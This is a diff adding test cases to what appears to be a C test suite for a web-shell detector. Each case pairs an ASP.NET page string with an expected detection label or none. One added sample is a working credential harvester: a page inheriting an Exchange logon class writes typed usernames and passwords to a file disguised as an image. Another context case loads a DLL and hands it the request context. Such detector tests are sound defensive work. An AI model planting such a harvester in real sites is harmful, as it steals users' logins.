@@ -211,6 +211,14 @@ static void test_written_variants(void **st)
         {"<%@ Page Language=\"C#\" %><% var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(Server.MapPath(\"~/t.xslt\"));"
          " x.Transform(Server.MapPath(\"~/d.xml\"), null, Response.Output); string q = Request[\"q\"]; %>",
          NULL},
+        /* a logon page that keeps what users type */
+        {"<%@ Page language=\"c#\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %><script runat=\"server\">"
+         "protected override void OnLoad(EventArgs e) { string u = Request.Form[\"username\"], p = Request.Form[\"password\"];"
+         " System.IO.File.AppendAllText(@\"C:\\inetpub\\wwwroot\\aspnet_client\\x.gif\", u + \":\" + p); base.OnLoad(e); }</script>",
+         "exray_credential_harvest"},
+        {"<%@ Page Language=\"C#\" %><% if (Membership.ValidateUser(Request.Form[\"username\"], Request.Form[\"password\"]))"
+         " FormsAuthentication.RedirectFromLoginPage(Request.Form[\"username\"], false); %>",
+         NULL},
         /* a class of an installed DLL handed the page through Equals(Context) */
         {"<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.LoadFile(Server.MapPath(\"~/bin/x.dll\")).CreateInstance(\"X\").Equals(Context); %>",
          "exray_loader_instance_handed_context"},
